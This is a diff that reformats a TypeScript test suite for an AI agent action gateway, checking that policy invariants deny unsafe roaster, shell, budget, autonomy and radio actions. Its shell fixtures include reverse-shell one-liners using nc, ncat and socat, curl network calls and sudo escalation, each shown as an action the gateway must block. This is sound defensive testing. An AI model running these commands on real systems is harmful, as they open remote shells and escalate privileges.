@@ -15,7 +15,12 @@ import { compileInvariants } from '../gateway/invariants/compile.ts';
 import { invariantJsonSchema } from '../gateway/invariants/dsl.ts';
 import { readInvariantSources } from '../gateway/invariants/load.ts';
 import { describeFailure, testInvariant } from '../gateway/invariants/property.ts';
-import { defaultCacheDir, defaultInvariantsDir, defaultPolicyDir, projectRoot } from '../gateway/paths.ts';
+import {
+  defaultCacheDir,
+  defaultInvariantsDir,
+  defaultPolicyDir,
+  projectRoot,
+} from '../gateway/paths.ts';
 import { compilePolicy } from '../gateway/policy/compile.ts';
 import { PolicyEngine } from '../gateway/policy/engine.ts';
 import { mergePolicyData } from '../gateway/policy/load-data.ts';
@@ -49,47 +54,275 @@ function run(c: Case) {
     {
       level: c.level ?? 'L3',
       state: c.state ?? {},
-      history: { last: c.last ? { [c.kind]: c.last } : {}, rate: {}, ...(c.counts ? { counts: c.counts } : {}) },
+      history: {
+        last: c.last ? { [c.kind]: c.last } : {},
+        rate: {},
+        ...(c.counts ? { counts: c.counts } : {}),
+      },
       clock: { minute: c.minute ?? 720, weekday: 1 },
       ...(c.batch ? { batch: { size: c.batch } } : {}),
     },
     NOW,
     evaluator.data.invariant_manifest,
   );
-  return decide({ envelope: { kind: c.kind, target: 'target-1', params: c.params }, actor: c.actor ?? { id: 'agent-1', roles: ['agent'] }, context }, evaluator);
+  return decide(
+    {
+      envelope: { kind: c.kind, target: 'target-1', params: c.params },
+      actor: c.actor ?? { id: 'agent-1', roles: ['agent'] },
+      context,
+    },
+    evaluator,
+  );
 }
 
-const roaster = { mode: 'RUNNING', power: 40, fan: 3, drumRpm: 60, airflow: 30, beanTemp: 150, tripped: false };
+const roaster = {
+  mode: 'RUNNING',
+  power: 40,
+  fan: 3,
+  drumRpm: 60,
+  airflow: 30,
+  beanTemp: 150,
+  tripped: false,
+};
 const cases: [id: string, violating: Case, compliant: Case][] = [
-  ['INV.ROASTER.FAN_WHILE_HEAT', { kind: 'roaster.set_power', params: { value: 40 }, state: { ...roaster, fan: 0 } }, { kind: 'roaster.set_power', params: { value: 40 }, state: roaster }],
-  ['INV.ROASTER.POWER_RAMP', { kind: 'roaster.set_power', params: { value: 60 }, state: roaster, last: { at: NOW - 1000, value: 40, params: { value: 40 } } }, { kind: 'roaster.set_power', params: { value: 60 }, state: roaster, last: { at: NOW - 10_000, value: 40, params: { value: 40 } } }],
-  ['INV.ROASTER.NO_HEAT_DRUM_STOPPED', { kind: 'roaster.set_drum', params: { rpm: 0 }, state: roaster }, { kind: 'roaster.set_drum', params: { rpm: 30 }, state: roaster }],
-  ['INV.ROASTER.BEAN_TEMP_CEILING', { kind: 'roaster.set_power', params: { value: 45 }, state: { ...roaster, beanTemp: 235 } }, { kind: 'roaster.set_power', params: { value: 35 }, state: { ...roaster, beanTemp: 235 } }],
-  ['INV.ROASTER.PREHEAT_FROM_OFF', { kind: 'roaster.preheat', params: { target_temp: 200 }, state: roaster }, { kind: 'roaster.preheat', params: { target_temp: 200 }, state: { ...roaster, mode: 'OFF' } }],
-  ['INV.ROASTER.NO_HEAT_WHILE_TRIPPED', { kind: 'roaster.set_power', params: { value: 20 }, state: { ...roaster, tripped: true } }, { kind: 'roaster.set_power', params: { value: 0 }, state: { ...roaster, tripped: true } }],
-  ['INV.ROASTER.DRUM_TURNING_AT_CHARGE', { kind: 'roaster.charge', params: {}, state: { ...roaster, drumRpm: 10 } }, { kind: 'roaster.charge', params: {}, state: roaster }],
-  ['INV.ROASTER.COOLING_AIRFLOW', { kind: 'roaster.cooling_cycle', params: { duration_s: 60 }, state: { ...roaster, airflow: 10 } }, { kind: 'roaster.cooling_cycle', params: { duration_s: 60 }, state: roaster }],
-  ['INV.ROASTER.SETPOINT_BURST', { kind: 'roaster.set_power', params: { value: 40 }, state: roaster, counts: { 'roaster.set_power@10000': 10 } }, { kind: 'roaster.set_power', params: { value: 40 }, state: roaster, counts: { 'roaster.set_power@10000': 9 } }],
-  ['INV.SHELL.BATCH_SIZE', { kind: 'shell.exec', params: { command: 'ls' }, batch: 11 }, { kind: 'shell.exec', params: { command: 'ls' }, batch: 10 }],
-  ['INV.SHELL.NO_NETWORK_TOOLS', { kind: 'shell.exec', params: { command: "sh -c 'echo hi; /usr/bin/curl https://example.com'" } }, { kind: 'shell.exec', params: { command: 'echo curl' } }],
-  ['INV.SHELL.NO_NETWORK_TOOLS', { kind: 'shell.exec', params: { command: "'curl' https://example.com" } }, { kind: 'shell.exec', params: { command: 'cat curl.txt' } }],
-  ['INV.SHELL.NO_NETWORK_TOOLS', { kind: 'shell.exec', params: { argv: ['/bin/nc', '-e', '/bin/sh', 'host', '1'] } }, { kind: 'shell.exec', params: { argv: ['echo', 'nc -e'] } }],
-  ['INV.SHELL.NO_NETWORK_TOOLS', { kind: 'shell.exec', params: { command: 'nice ncat --exec /bin/sh host 1' } }, { kind: 'shell.exec', params: { command: 'grep ncat log' } }],
-  ['INV.SHELL.NO_NETWORK_TOOLS', { kind: 'shell.exec', params: { command: 'socat tcp:host:1 exec:sh' } }, { kind: 'shell.exec', params: { command: 'echo exec:sh' } }],
-  ['INV.SHELL.NO_NETWORK_TOOLS', { kind: 'shell.exec', params: { command: 'rsync -e /usr/bin/ssh a host:b' } }, { kind: 'shell.exec', params: { command: 'ls rsync' } }],
-  ['INV.SHELL.WORKSPACE_ONLY', { kind: 'shell.exec', params: { command: 'echo x', cwd: '/etc' } }, { kind: 'shell.exec', params: { command: 'echo x', cwd: '/workspace/app' } }],
-  ['INV.SHELL.NO_PRIVILEGE_ESCALATION', { kind: 'shell.exec', params: { command: 'sudo ls' } }, { kind: 'shell.exec', params: { command: 'cat sudoers.txt' } }],
-  ['INV.SHELL.NO_PRIVILEGE_ESCALATION', { kind: 'shell.exec', params: { command: "bash -c '/usr/bin/sudo id'" } }, { kind: 'shell.exec', params: { command: 'echo sudo' } }],
-  ['INV.SHELL.RATE', { kind: 'shell.exec', params: { command: 'ls' }, counts: { 'shell.exec@60000': 20 } }, { kind: 'shell.exec', params: { command: 'ls' }, counts: { 'shell.exec@60000': 19 } }],
-  ['INV.BUDGET.CAP', { kind: 'agent.model_call', params: { model: 'm', estimated_cost_usd: 1 }, state: { total_spend_usd: 9.5, budget_usd: 10 } }, { kind: 'agent.model_call', params: { model: 'm', estimated_cost_usd: 0.5 }, state: { total_spend_usd: 9.5, budget_usd: 10 } }],
-  ['INV.BUDGET.PER_CALL', { kind: 'agent.model_call', params: { model: 'm', estimated_cost_usd: 6 }, state: { total_spend_usd: 0, budget_usd: 100 } }, { kind: 'agent.model_call', params: { model: 'm', estimated_cost_usd: 5 }, state: { total_spend_usd: 0, budget_usd: 100 } }],
-  ['INV.AUTONOMY.ADMIN_ONLY', { kind: 'agent.set_level', params: { target_id: 'roaster-1', level: 'L4' } }, { kind: 'agent.set_level', params: { target_id: 'roaster-1', level: 'L4' }, actor: { id: 'root', roles: ['admin'] } }],
-  ['INV.RADIO.AD_SPACING', { kind: 'radio.ad.insert', params: { block: 'b1', campaign: 'c', campaign_pool: 'daypart', catalog: 'approved' }, state: { mode: 'live' }, counts: { 'radio.ad.insert@900000': 1 } }, { kind: 'radio.ad.insert', params: { block: 'b1', campaign: 'c', campaign_pool: 'daypart', catalog: 'approved' }, state: { mode: 'live' } }],
-  ['INV.RADIO.OVERNIGHT_CONTENT_WINDOW', { kind: 'radio.script.publish', params: { script: 's', daypart: 'overnight' }, state: { mode: 'live' }, minute: 720 }, { kind: 'radio.script.publish', params: { script: 's', daypart: 'overnight' }, state: { mode: 'live' }, minute: 120 }],
-  ['INV.RADIO.OVERNIGHT_CAMPAIGNS', { kind: 'radio.ad.insert', params: { block: 'b1', campaign: 'c', campaign_pool: 'daypart', catalog: 'approved' }, state: { mode: 'live' }, minute: 60 }, { kind: 'radio.ad.insert', params: { block: 'b1', campaign: 'c', campaign_pool: 'overnight', catalog: 'overnight_approved' }, state: { mode: 'live' }, minute: 60 }],
-  ['INV.RADIO.APPROVED_CATALOG', { kind: 'radio.playlist.commit', params: { block: 'b1', tracks: 12, catalog: 'bootleg' }, state: { mode: 'live' } }, { kind: 'radio.playlist.commit', params: { block: 'b1', tracks: 12, catalog: 'approved' }, state: { mode: 'live' } }],
-  ['INV.RADIO.SAFE_LOOP_HOLDS', { kind: 'radio.playlist.commit', params: { block: 'b1', tracks: 12, catalog: 'approved' }, state: { mode: 'safe_loop' } }, { kind: 'radio.rollback', params: { subsystem: 'all' }, state: { mode: 'safe_loop' } }],
-  ['INV.GENERIC.ACTOR', { kind: 'roaster.abort', params: {}, state: roaster, actor: { id: '', roles: [] } }, { kind: 'roaster.abort', params: {}, state: roaster }],
+  [
+    'INV.ROASTER.FAN_WHILE_HEAT',
+    { kind: 'roaster.set_power', params: { value: 40 }, state: { ...roaster, fan: 0 } },
+    { kind: 'roaster.set_power', params: { value: 40 }, state: roaster },
+  ],
+  [
+    'INV.ROASTER.POWER_RAMP',
+    {
+      kind: 'roaster.set_power',
+      params: { value: 60 },
+      state: roaster,
+      last: { at: NOW - 1000, value: 40, params: { value: 40 } },
+    },
+    {
+      kind: 'roaster.set_power',
+      params: { value: 60 },
+      state: roaster,
+      last: { at: NOW - 10_000, value: 40, params: { value: 40 } },
+    },
+  ],
+  [
+    'INV.ROASTER.NO_HEAT_DRUM_STOPPED',
+    { kind: 'roaster.set_drum', params: { rpm: 0 }, state: roaster },
+    { kind: 'roaster.set_drum', params: { rpm: 30 }, state: roaster },
+  ],
+  [
+    'INV.ROASTER.BEAN_TEMP_CEILING',
+    { kind: 'roaster.set_power', params: { value: 45 }, state: { ...roaster, beanTemp: 235 } },
+    { kind: 'roaster.set_power', params: { value: 35 }, state: { ...roaster, beanTemp: 235 } },
+  ],
+  [
+    'INV.ROASTER.PREHEAT_FROM_OFF',
+    { kind: 'roaster.preheat', params: { target_temp: 200 }, state: roaster },
+    { kind: 'roaster.preheat', params: { target_temp: 200 }, state: { ...roaster, mode: 'OFF' } },
+  ],
+  [
+    'INV.ROASTER.NO_HEAT_WHILE_TRIPPED',
+    { kind: 'roaster.set_power', params: { value: 20 }, state: { ...roaster, tripped: true } },
+    { kind: 'roaster.set_power', params: { value: 0 }, state: { ...roaster, tripped: true } },
+  ],
+  [
+    'INV.ROASTER.DRUM_TURNING_AT_CHARGE',
+    { kind: 'roaster.charge', params: {}, state: { ...roaster, drumRpm: 10 } },
+    { kind: 'roaster.charge', params: {}, state: roaster },
+  ],
+  [
+    'INV.ROASTER.COOLING_AIRFLOW',
+    {
+      kind: 'roaster.cooling_cycle',
+      params: { duration_s: 60 },
+      state: { ...roaster, airflow: 10 },
+    },
+    { kind: 'roaster.cooling_cycle', params: { duration_s: 60 }, state: roaster },
+  ],
+  [
+    'INV.ROASTER.SETPOINT_BURST',
+    {
+      kind: 'roaster.set_power',
+      params: { value: 40 },
+      state: roaster,
+      counts: { 'roaster.set_power@10000': 10 },
+    },
+    {
+      kind: 'roaster.set_power',
+      params: { value: 40 },
+      state: roaster,
+      counts: { 'roaster.set_power@10000': 9 },
+    },
+  ],
+  [
+    'INV.SHELL.BATCH_SIZE',
+    { kind: 'shell.exec', params: { command: 'ls' }, batch: 11 },
+    { kind: 'shell.exec', params: { command: 'ls' }, batch: 10 },
+  ],
+  [
+    'INV.SHELL.NO_NETWORK_TOOLS',
+    {
+      kind: 'shell.exec',
+      params: { command: "sh -c 'echo hi; /usr/bin/curl https://example.com'" },
+    },
+    { kind: 'shell.exec', params: { command: 'echo curl' } },
+  ],
+  [
+    'INV.SHELL.NO_NETWORK_TOOLS',
+    { kind: 'shell.exec', params: { command: "'curl' https://example.com" } },
+    { kind: 'shell.exec', params: { command: 'cat curl.txt' } },
+  ],
+  [
+    'INV.SHELL.NO_NETWORK_TOOLS',
+    { kind: 'shell.exec', params: { argv: ['/bin/nc', '-e', '/bin/sh', 'host', '1'] } },
+    { kind: 'shell.exec', params: { argv: ['echo', 'nc -e'] } },
+  ],
+  [
+    'INV.SHELL.NO_NETWORK_TOOLS',
+    { kind: 'shell.exec', params: { command: 'nice ncat --exec /bin/sh host 1' } },
+    { kind: 'shell.exec', params: { command: 'grep ncat log' } },
+  ],
+  [
+    'INV.SHELL.NO_NETWORK_TOOLS',
+    { kind: 'shell.exec', params: { command: 'socat tcp:host:1 exec:sh' } },
+    { kind: 'shell.exec', params: { command: 'echo exec:sh' } },
+  ],
+  [
+    'INV.SHELL.NO_NETWORK_TOOLS',
+    { kind: 'shell.exec', params: { command: 'rsync -e /usr/bin/ssh a host:b' } },
+    { kind: 'shell.exec', params: { command: 'ls rsync' } },
+  ],
+  [
+    'INV.SHELL.WORKSPACE_ONLY',
+    { kind: 'shell.exec', params: { command: 'echo x', cwd: '/etc' } },
+    { kind: 'shell.exec', params: { command: 'echo x', cwd: '/workspace/app' } },
+  ],
+  [
+    'INV.SHELL.NO_PRIVILEGE_ESCALATION',
+    { kind: 'shell.exec', params: { command: 'sudo ls' } },
+    { kind: 'shell.exec', params: { command: 'cat sudoers.txt' } },
+  ],
+  [
+    'INV.SHELL.NO_PRIVILEGE_ESCALATION',
+    { kind: 'shell.exec', params: { command: "bash -c '/usr/bin/sudo id'" } },
+    { kind: 'shell.exec', params: { command: 'echo sudo' } },
+  ],
+  [
+    'INV.SHELL.RATE',
+    { kind: 'shell.exec', params: { command: 'ls' }, counts: { 'shell.exec@60000': 20 } },
+    { kind: 'shell.exec', params: { command: 'ls' }, counts: { 'shell.exec@60000': 19 } },
+  ],
+  [
+    'INV.BUDGET.CAP',
+    {
+      kind: 'agent.model_call',
+      params: { model: 'm', estimated_cost_usd: 1 },
+      state: { total_spend_usd: 9.5, budget_usd: 10 },
+    },
+    {
+      kind: 'agent.model_call',
+      params: { model: 'm', estimated_cost_usd: 0.5 },
+      state: { total_spend_usd: 9.5, budget_usd: 10 },
+    },
+  ],
+  [
+    'INV.BUDGET.PER_CALL',
+    {
+      kind: 'agent.model_call',
+      params: { model: 'm', estimated_cost_usd: 6 },
+      state: { total_spend_usd: 0, budget_usd: 100 },
+    },
+    {
+      kind: 'agent.model_call',
+      params: { model: 'm', estimated_cost_usd: 5 },
+      state: { total_spend_usd: 0, budget_usd: 100 },
+    },
+  ],
+  [
+    'INV.AUTONOMY.ADMIN_ONLY',
+    { kind: 'agent.set_level', params: { target_id: 'roaster-1', level: 'L4' } },
+    {
+      kind: 'agent.set_level',
+      params: { target_id: 'roaster-1', level: 'L4' },
+      actor: { id: 'root', roles: ['admin'] },
+    },
+  ],
+  [
+    'INV.RADIO.AD_SPACING',
+    {
+      kind: 'radio.ad.insert',
+      params: { block: 'b1', campaign: 'c', campaign_pool: 'daypart', catalog: 'approved' },
+      state: { mode: 'live' },
+      counts: { 'radio.ad.insert@900000': 1 },
+    },
+    {
+      kind: 'radio.ad.insert',
+      params: { block: 'b1', campaign: 'c', campaign_pool: 'daypart', catalog: 'approved' },
+      state: { mode: 'live' },
+    },
+  ],
+  [
+    'INV.RADIO.OVERNIGHT_CONTENT_WINDOW',
+    {
+      kind: 'radio.script.publish',
+      params: { script: 's', daypart: 'overnight' },
+      state: { mode: 'live' },
+      minute: 720,
+    },
+    {
+      kind: 'radio.script.publish',
+      params: { script: 's', daypart: 'overnight' },
+      state: { mode: 'live' },
+      minute: 120,
+    },
+  ],
+  [
+    'INV.RADIO.OVERNIGHT_CAMPAIGNS',
+    {
+      kind: 'radio.ad.insert',
+      params: { block: 'b1', campaign: 'c', campaign_pool: 'daypart', catalog: 'approved' },
+      state: { mode: 'live' },
+      minute: 60,
+    },
+    {
+      kind: 'radio.ad.insert',
+      params: {
+        block: 'b1',
+        campaign: 'c',
+        campaign_pool: 'overnight',
+        catalog: 'overnight_approved',
+      },
+      state: { mode: 'live' },
+      minute: 60,
+    },
+  ],
+  [
+    'INV.RADIO.APPROVED_CATALOG',
+    {
+      kind: 'radio.playlist.commit',
+      params: { block: 'b1', tracks: 12, catalog: 'bootleg' },
+      state: { mode: 'live' },
+    },
+    {
+      kind: 'radio.playlist.commit',
+      params: { block: 'b1', tracks: 12, catalog: 'approved' },
+      state: { mode: 'live' },
+    },
+  ],
+  [
+    'INV.RADIO.SAFE_LOOP_HOLDS',
+    {
+      kind: 'radio.playlist.commit',
+      params: { block: 'b1', tracks: 12, catalog: 'approved' },
+      state: { mode: 'safe_loop' },
+    },
+    { kind: 'radio.rollback', params: { subsystem: 'all' }, state: { mode: 'safe_loop' } },
+  ],
+  [
+    'INV.GENERIC.ACTOR',
+    { kind: 'roaster.abort', params: {}, state: roaster, actor: { id: '', roles: [] } },
+    { kind: 'roaster.abort', params: {}, state: roaster },
+  ],
 ];
 
 describe('every shipped invariant, through the real Wasm bundle', () => {
@@ -99,27 +332,47 @@ describe('every shipped invariant, through the real Wasm bundle', () => {
     expect(new Set(cases.map(([id]) => id))).toEqual(new Set(shipped));
   });
 
-  it.each(cases)('%s denies a violating action and lets a compliant one through', (id, violating, compliant) => {
-    const bad = run(violating);
-    expect(bad.effect).toBe('deny');
-    const v = bad.invariants.find((x) => x.id === id);
-    expect(v, JSON.stringify(bad)).toBeDefined();
-    expect(v!.message).not.toMatch(/\{\{/);
-    expect(Object.keys(v!.values ?? {}).length).toBeGreaterThan(0);
-    const good = run(compliant);
-    expect(good.invariants.map((x) => x.id), JSON.stringify(good.invariants)).not.toContain(id);
-  });
+  it.each(cases)(
+    '%s denies a violating action and lets a compliant one through',
+    (id, violating, compliant) => {
+      const bad = run(violating);
+      expect(bad.effect).toBe('deny');
+      const v = bad.invariants.find((x) => x.id === id);
+      expect(v, JSON.stringify(bad)).toBeDefined();
+      expect(v!.message).not.toMatch(/\{\{/);
+      expect(Object.keys(v!.values ?? {}).length).toBeGreaterThan(0);
+      const good = run(compliant);
+      expect(
+        good.invariants.map((x) => x.id),
+        JSON.stringify(good.invariants),
+      ).not.toContain(id);
+    },
+  );
 
   it('fills messages with the values involved', () => {
     const d = run(cases.find(([id]) => id === 'INV.BUDGET.CAP')![1]);
     expect(d.reasons).toContain('INV.BUDGET.CAP: Budget exceeded: spent 9.5 + 1 > 10');
-    expect(d.invariants[0]).toMatchObject({ id: 'INV.BUDGET.CAP', severity: 'critical', values: { 'state.total_spend_usd': 9.5, 'params.estimated_cost_usd': 1, 'state.budget_usd': 10 } });
+    expect(d.invariants[0]).toMatchObject({
+      id: 'INV.BUDGET.CAP',
+      severity: 'critical',
+      values: {
+        'state.total_spend_usd': 9.5,
+        'params.estimated_cost_usd': 1,
+        'state.budget_usd': 10,
+      },
+    });
   });
 
   it('a missing value fails closed: the invariant is violated, not skipped', () => {
-    const d = run({ kind: 'agent.model_call', params: { model: 'm', estimated_cost_usd: 1 }, state: {} });
+    const d = run({
+      kind: 'agent.model_call',
+      params: { model: 'm', estimated_cost_usd: 1 },
+      state: {},
+    });
     expect(d.invariants.map((x) => x.id)).toContain('INV.BUDGET.CAP');
-    expect(d.invariants.find((x) => x.id === 'INV.BUDGET.CAP')!.values).toMatchObject({ 'state.budget_usd': null });
+    expect(d.invariants.find((x) => x.id === 'INV.BUDGET.CAP')!.values).toMatchObject({
+      'state.budget_usd': null,
+    });
   });
 });
 
@@ -139,9 +392,25 @@ describe('property tests', () => {
     const data = mergePolicyData(await readPolicySources(defaultPolicyDir));
     const compiled = await compileInvariants(files, data);
     // The mutation: the ramp limit in the generated Rego goes from 5 to 50 units per second.
-    const mutated = compiled.sources.map((s) => (s.kind === 'rego' ? { ...s, content: s.content.replace('L.num(L.ramp("value")) <= L.num(5)', 'L.num(L.ramp("value")) <= L.num(50)') } : s));
+    const mutated = compiled.sources.map((s) =>
+      s.kind === 'rego'
+        ? {
+            ...s,
+            content: s.content.replace(
+              'L.num(L.ramp("value")) <= L.num(5)',
+              'L.num(L.ramp("value")) <= L.num(50)',
+            ),
+          }
+        : s,
+    );
     expect(mutated.find((s) => s.kind === 'rego')!.content).toContain('<= L.num(50)');
-    const weak = await loadEvaluator(await compilePolicy({ policyDir: defaultPolicyDir, cacheDir: defaultCacheDir, extraSources: mutated }));
+    const weak = await loadEvaluator(
+      await compilePolicy({
+        policyDir: defaultPolicyDir,
+        cacheDir: defaultCacheDir,
+        extraSources: mutated,
+      }),
+    );
     const li = compiled.loaded.find((l) => l.inv.id === 'INV.ROASTER.POWER_RAMP')!;
     const r = testInvariant(li, weak, weak.data, { runs: 300, seed: 7 });
     expect(r.ok).toBe(false);
@@ -154,14 +423,16 @@ describe('property tests', () => {
   }, 120_000);
 });
 
-const inv = (expr: string, extra = '') => `invariants:\n  - id: INV.T.ONE\n    description: d\n    severity: high\n    scope: { kinds: [roaster.set_power] }\n${extra}    assert:\n      - expr: ${expr}\n        message: m\n`;
+const inv = (expr: string, extra = '') =>
+  `invariants:\n  - id: INV.T.ONE\n    description: d\n    severity: high\n    scope: { kinds: [roaster.set_power] }\n${extra}    assert:\n      - expr: ${expr}\n        message: m\n`;
 
 describe('malformed invariant files', () => {
   let policyData: ReturnType<typeof mergePolicyData>;
   beforeAll(async () => {
     policyData = mergePolicyData(await readPolicySources(defaultPolicyDir));
   });
-  const compile = (content: string) => compileInvariants([{ path: 'bad.yaml', content }], policyData);
+  const compile = (content: string) =>
+    compileInvariants([{ path: 'bad.yaml', content }], policyData);
   const errorOf = async (content: string): Promise<string> => {
     try {
       await compile(content);
@@ -173,42 +444,80 @@ describe('malformed invariant files', () => {
   };
 
   it('bad YAML', async () => {
-    expect(await errorOf('invariants:\n  - id: [unclosed\n')).toMatch(/^invariants\/bad\.yaml:3:1: not valid YAML/);
+    expect(await errorOf('invariants:\n  - id: [unclosed\n')).toMatch(
+      /^invariants\/bad\.yaml:3:1: not valid YAML/,
+    );
   });
   it('a field the schema does not know, or lacks', async () => {
-    expect(await errorOf(inv('params.value < 5').replace('severity: high', 'severity: extreme'))).toMatch(/^invariants\/bad\.yaml:4:15: invariants\.0\.severity: /);
+    expect(
+      await errorOf(inv('params.value < 5').replace('severity: high', 'severity: extreme')),
+    ).toMatch(/^invariants\/bad\.yaml:4:15: invariants\.0\.severity: /);
   });
   it('an unknown path, at its column', async () => {
-    expect(await errorOf(inv('params.valu < 5'))).toBe('invariants/bad.yaml:7:15: unknown path params.valu: no kind in scope (roaster.set_power) has a param "valu"');
-    expect(await errorOf(inv('state.temperature < 5'))).toMatch(/^invariants\/bad\.yaml:7:15: unknown path state\.temperature: the roaster state has mode, power/);
+    expect(await errorOf(inv('params.valu < 5'))).toBe(
+      'invariants/bad.yaml:7:15: unknown path params.valu: no kind in scope (roaster.set_power) has a param "valu"',
+    );
+    expect(await errorOf(inv('state.temperature < 5'))).toMatch(
+      /^invariants\/bad\.yaml:7:15: unknown path state\.temperature: the roaster state has mode, power/,
+    );
   });
   it('a type error', async () => {
-    expect(await errorOf(inv('params.value < "high"'))).toBe('invariants/bad.yaml:7:15: type error: cannot compare number < string');
-    expect(await errorOf(inv('params.value + 1'))).toBe('invariants/bad.yaml:7:15: type error: assert.expr must be a condition (bool), not number');
+    expect(await errorOf(inv('params.value < "high"'))).toBe(
+      'invariants/bad.yaml:7:15: type error: cannot compare number < string',
+    );
+    expect(await errorOf(inv('params.value + 1'))).toBe(
+      'invariants/bad.yaml:7:15: type error: assert.expr must be a condition (bool), not number',
+    );
   });
   it("a bad regex, as OPA's RE2 sees it (JavaScript would accept the lookahead)", async () => {
-    expect(await errorOf(inv(`'matches(state.mode, "(unclosed")'`))).toMatch(/^invariants\/bad\.yaml:7:36: bad regex: /);
-    expect(await errorOf(inv(`'not matches(state.mode, "curl(?=x)")'`))).toMatch(/^invariants\/bad\.yaml:7:40: bad regex: "curl\(\?=x\)" does not compile in RE2/);
+    expect(await errorOf(inv(`'matches(state.mode, "(unclosed")'`))).toMatch(
+      /^invariants\/bad\.yaml:7:36: bad regex: /,
+    );
+    expect(await errorOf(inv(`'not matches(state.mode, "curl(?=x)")'`))).toMatch(
+      /^invariants\/bad\.yaml:7:40: bad regex: "curl\(\?=x\)" does not compile in RE2/,
+    );
   });
   it('a glob with syntax beyond * and ?, which the evaluators would read differently', async () => {
-    expect(await errorOf(inv('params.value < 5').replace('kinds: [roaster.set_power]', 'kinds: ["roaster.set_{power,fan}"]'))).toMatch(/glob "roaster\.set_\{power,fan\}" uses syntax other than \* and \?/);
-    expect(await errorOf(inv('params.value < 5').replace('kinds: [roaster.set_power]', 'kinds: [roaster.set_power], targets: ["roaster-[12]"]'))).toMatch(/glob "roaster-\[12\]"/);
+    expect(
+      await errorOf(
+        inv('params.value < 5').replace(
+          'kinds: [roaster.set_power]',
+          'kinds: ["roaster.set_{power,fan}"]',
+        ),
+      ),
+    ).toMatch(/glob "roaster\.set_\{power,fan\}" uses syntax other than \* and \?/);
+    expect(
+      await errorOf(
+        inv('params.value < 5').replace(
+          'kinds: [roaster.set_power]',
+          'kinds: [roaster.set_power], targets: ["roaster-[12]"]',
+        ),
+      ),
+    ).toMatch(/glob "roaster-\[12\]"/);
   });
   it('a syntax error, at its column', async () => {
-    expect(await errorOf(inv('params.value <'))).toMatch(/^invariants\/bad\.yaml:7:29: assert\.0\.expr: Expected /);
+    expect(await errorOf(inv('params.value <'))).toMatch(
+      /^invariants\/bad\.yaml:7:29: assert\.0\.expr: Expected /,
+    );
   });
   it('a bad message template', async () => {
-    expect(await errorOf(inv('params.value < 5').replace('message: m', 'message: "at {{params.nope}}"'))).toMatch(/^invariants\/bad\.yaml:8:\d+: in message: unknown path params\.nope/);
+    expect(
+      await errorOf(inv('params.value < 5').replace('message: m', 'message: "at {{params.nope}}"')),
+    ).toMatch(/^invariants\/bad\.yaml:8:\d+: in message: unknown path params\.nope/);
   });
 
   it('never load half a bundle: the engine keeps the running one', async () => {
     const dir = mkdtempSync(path.join(tmpdir(), 'interlock-inv-'));
     try {
       writeFileSync(path.join(dir, 'ok.yaml'), inv('params.value <= 100'));
-      const engine = new PolicyEngine({ policyDir: defaultPolicyDir, cacheDir: defaultCacheDir, generate: async () => {
-        const { invariantSources } = await import('../gateway/invariants/compile.ts');
-        return invariantSources(dir, defaultPolicyDir);
-      } });
+      const engine = new PolicyEngine({
+        policyDir: defaultPolicyDir,
+        cacheDir: defaultCacheDir,
+        generate: async () => {
+          const { invariantSources } = await import('../gateway/invariants/compile.ts');
+          return invariantSources(dir, defaultPolicyDir);
+        },
+      });
       const first = await engine.reload();
       expect(first.ok).toBe(true);
       const digest = engine.current!.digest;
@@ -216,7 +525,10 @@ describe('malformed invariant files', () => {
       writeFileSync(path.join(dir, 'broken.yaml'), inv('params.value <= '));
       const second = await engine.reload();
       expect(second.ok).toBe(false);
-      expect(second.ok === false && second.error.locations[0]).toMatchObject({ file: `${path.basename(dir)}/broken.yaml`, line: 7 });
+      expect(second.ok === false && second.error.locations[0]).toMatchObject({
+        file: `${path.basename(dir)}/broken.yaml`,
+        line: 7,
+      });
       expect(engine.current!.digest).toBe(digest);
       engine.close();
     } finally {
@@ -227,7 +539,8 @@ describe('malformed invariant files', () => {
 
 describe('the invariants CLI', () => {
   const bin = path.join(projectRoot, 'bin', 'interlock.js');
-  const interlock = (args: string[]) => execa('node', [bin, ...args], { reject: false, cwd: projectRoot });
+  const interlock = (args: string[]) =>
+    execa('node', [bin, ...args], { reject: false, cwd: projectRoot });
 
   it('check and test pass on the shipped invariants; test --json feeds evidence', async () => {
     const check = await interlock(['invariants', 'check']);
@@ -235,7 +548,10 @@ describe('the invariants CLI', () => {
     expect(check.stdout).toMatch(/^\d+ invariants in 5 files compile with the policies/);
     const test = await interlock(['invariants', 'test', '--runs', '30', '--json']);
     expect(test.exitCode, test.stderr).toBe(0);
-    expect(JSON.parse(test.stdout)).toMatchObject({ ok: true, summary: expect.stringMatching(/^23 of 23 invariants hold/) });
+    expect(JSON.parse(test.stdout)).toMatchObject({
+      ok: true,
+      summary: expect.stringMatching(/^23 of 23 invariants hold/),
+    });
   }, 120_000);
 
   it('check exits 1 with file:line:col for a malformed file', async () => {
@@ -251,6 +567,8 @@ describe('the invariants CLI', () => {
   });
 
   it('the published JSON Schema is the one the code validates with', () => {
-    expect(JSON.parse(readFileSync(path.join(projectRoot, 'schemas', 'invariants.schema.json'), 'utf8'))).toEqual(invariantJsonSchema());
+    expect(
+      JSON.parse(readFileSync(path.join(projectRoot, 'schemas', 'invariants.schema.json'), 'utf8')),
+    ).toEqual(invariantJsonSchema());
   });
 });
